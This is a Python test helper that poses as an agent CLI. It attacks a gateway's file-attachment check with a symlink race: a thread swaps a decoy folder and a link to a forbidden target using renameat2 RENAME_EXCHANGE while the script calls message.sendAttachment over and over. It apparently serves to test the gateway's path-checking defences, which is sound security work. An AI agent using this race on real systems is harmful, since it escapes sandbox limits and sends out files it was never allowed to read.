"""A stand-in agent CLI that races the gateway (Claude Code's stream-json out): check-then-read by name loses.

Its prompt is a JSON object ``{"target": "<folder it cannot see>", "name": "<file in it>", "tries": n, "send":
{params of message.sendAttachment but file}}``. In its working folder it makes ``box/<name>`` (a decoy,
``decoy``) and a symlink ``swap -> <target>``, then swaps the two names with ``renameat2(RENAME_EXCHANGE)`` in a
loop in a thread while it calls ``message.sendAttachment {file: "<cwd>/box/<name>"}`` ``tries`` times with its
run's token. So ``box`` is now the decoy folder, now a link to ``target``: a gateway that checks the path and
reads it again later sends ``target/<name>``. It answers ``{"ok": n, "errors": {message: count}, "swaps": n}``.
"""

from __future__ import annotations

import ctypes
import json
import os
import sys
import threading
from collections import Counter

AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = 316  # x86_64


def exchanger() -> ctypes._CFuncPtr:
    libc = ctypes.CDLL(None, use_errno=True)
    fn = getattr(libc, "renameat2", None)
    if fn is not None:
        return fn
    return lambda a, b, c, d, e: libc.syscall(SYS_RENAMEAT2, a, b, c, d, e)


def swap_loop(stop: threading.Event, counter: list[int]) -> None:
    swap = exchanger()
    box, link = b"box", b"swap"
    while not stop.is_set():
        if swap(AT_FDCWD, box, AT_FDCWD, link, RENAME_EXCHANGE) == 0:
            counter[0] += 1


def send_all(params: dict, tries: int) -> tuple[int, Counter[str]]:
    from websockets.sync.client import connect, unix_connect

    url, sock = os.environ["REMOTECLAW_GATEWAY_URL"], os.environ.get("REMOTECLAW_GATEWAY_SOCKET")
    ok, errors = 0, Counter()
    with (unix_connect(sock, url, open_timeout=5) if sock else connect(url, open_timeout=5)) as ws:
        ws.recv(timeout=5)  # connect.challenge
        ws.send(json.dumps({"type": "req", "id": "c", "method": "connect", "params": {
            "minProtocol": 3, "maxProtocol": 3, "role": "operator", "scopes": ["operator.write"],
            "auth": {"token": os.environ["REMOTECLAW_GATEWAY_TOKEN"]},
            "client": {"id": "swap", "version": "1", "platform": "linux", "mode": "backend"}}}))
        while json.loads(ws.recv(timeout=10)).get("id") != "c":
            pass
        for i in range(tries):
            ws.send(json.dumps({"type": "req", "id": str(i), "method": "message.sendAttachment", "params": params}))
            while True:
                frame = json.loads(ws.recv(timeout=20))
                if frame.get("type") == "res" and frame.get("id") == str(i):
                    break
            if frame["ok"]:
                ok += 1
            else:
                errors[frame["error"]["message"].split(":")[0][:80]] += 1
    return ok, errors


def main() -> int:
    ask = json.loads(sys.stdin.read())
    os.makedirs("box", exist_ok=True)
    with open(os.path.join("box", ask["name"]), "w") as fh:
        fh.write("decoy")
    if not os.path.lexists("swap"):
        os.symlink(ask["target"], "swap")
    stop, swaps = threading.Event(), [0]
    racer = threading.Thread(target=swap_loop, args=(stop, swaps), daemon=True)
    racer.start()
    try:
        params = {**ask["send"], "file": os.path.join(os.getcwd(), "box", ask["name"])}
        ok, errors = send_all(params, int(ask.get("tries", 400)))
    finally:
        stop.set()
        racer.join()
    reply = json.dumps({"ok": ok, "errors": dict(errors), "swaps": swaps[0]})
    for obj in ({"type": "system", "subtype": "init", "session_id": "swap"},
                {"type": "result", "subtype": "success", "is_error": False, "session_id": "swap", "result": reply}):
        sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
